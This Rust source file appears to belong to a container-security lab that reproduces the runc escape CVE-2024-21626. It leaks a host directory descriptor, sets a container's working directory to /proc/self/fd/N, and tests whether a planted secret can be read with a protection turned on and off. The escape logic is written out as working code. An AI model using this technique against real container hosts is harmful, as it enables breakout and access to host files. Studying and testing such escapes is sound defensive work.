//! A directory of the host that somebody forgot to close.

use std::fs::File;
use std::path::PathBuf;

use chroot::Workdir;
use clone_pid::Part;
use ground::Result;
use ground::call::quietly;
use ground::lesson::{Experiment, Findings, Level, run_dir};
use ground::needs::Need;
use nix::fcntl::{FcntlArg, fcntl};
use nix::unistd::{chdir, close};

use crate::attack::{self, Escape, Outcome, Protection, boxed, secret, twice};
use crate::stage::protected;

pub const EXPERIMENT: Experiment = Experiment {
    name: "escape-leaked-directory",
    title: "a working directory of /proc/self/fd/N is wherever N is open",
    level: Level::Deep,
    claims: &["C238"],
    needs: &[Need::Admin, Need::Clone3],
    run,
};

pub const ESCAPE: Escape = Escape {
    name: "working directory /proc/self/fd/N",
    known: "CVE-2024-21626",
    open: "a runtime that has a directory of the host open and changes to whatever the image names",
    closed: "no link of /proc followed",
    needs: &[],
    attempt,
};

/// A number that is not in use.
const LEAK: i32 = 100;

fn run(findings: &mut Findings) -> Result<()> {
    twice(&ESCAPE, findings).map(drop)
}

fn attempt(protection: Protection) -> Result<Outcome> {
    secret()?;
    let host = run_dir()?;
    let dir = quietly("open a directory").run(|| File::open(host))?;
    let leak = quietly("dup it").run(|| fcntl(&dir, FcntlArg::F_DUPFD(LEAK)))?;
    let workdir = PathBuf::from(format!("/proc/self/fd/{leak}"));
    let container = boxed(&["first-line", "secret"])?;
    let container = match protection {
        // It is not even kept open in the box: that it was open for a moment is enough.
        Protection::Off => container.with(Naive(workdir)),
        Protection::On => protected(container.with(Workdir(workdir)))?,
    };
    let outcome = attack::run(container);
    quietly("close it").run(|| close(leak))?;
    match outcome {
        Ok(text) => Ok(Outcome::by_secret(&text)),
        Err(refused) => match refused.errno() {
            Some(errno) => Ok(Outcome { out: false, said: format!("{errno:?}, and no command") }),
            None => Err(refused),
        },
    }
}

/// `chdir` as runc did it before 1.1.12.
struct Naive(PathBuf);

impl Part for Naive {
    fn seal(&mut self) -> Result<()> {
        quietly("chdir").run(|| chdir(&self.0))
    }
}
